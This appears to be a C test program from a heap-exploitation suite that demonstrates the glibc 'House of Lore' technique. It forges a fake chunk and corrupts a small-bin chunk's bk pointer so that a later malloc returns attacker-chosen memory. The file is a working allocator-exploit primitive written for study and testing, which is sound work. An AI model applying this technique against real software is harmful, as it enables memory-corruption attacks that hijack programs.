/* expect: exit 0
 * House of Lore: a small-bin chunk's bk pointed at a fake chunk whose fd points back (so the one
 * check passes) and whose bk is the bin itself (read from the victim's own fd).  The fake chunk is
 * moved into the tcache with the victim's leftovers and handed out by the next malloc. */
#include "attack.h"

int main(void)
{
	attack_begin();
	char *victim = malloc(0x100);
	char *guard = malloc(24);
	show("victim", victim);
	show("guard", guard);
	fill_tcache(0x100);
	free(victim);
	show("malloc(0x200)", malloc(0x200)); /* sorts victim into its small bin */
	empty_tcache(0x100);
	size_t bin = ((size_t *)victim)[0];
	fake_area[1] = 0x111;
	fake_area[2] = (size_t)chunk_words(victim); /* fake->fd = victim chunk */
	fake_area[3] = bin;                         /* fake->bk = the bin: ends the stash */
	((size_t *)victim)[1] = (size_t)&fake_area[0];
	attack_staged("malloc(0x100) takes victim and stashes the fake chunk");
	show("first malloc(0x100)", malloc(0x100));
	show("second malloc(0x100)", malloc(0x100));
	return 0;
}
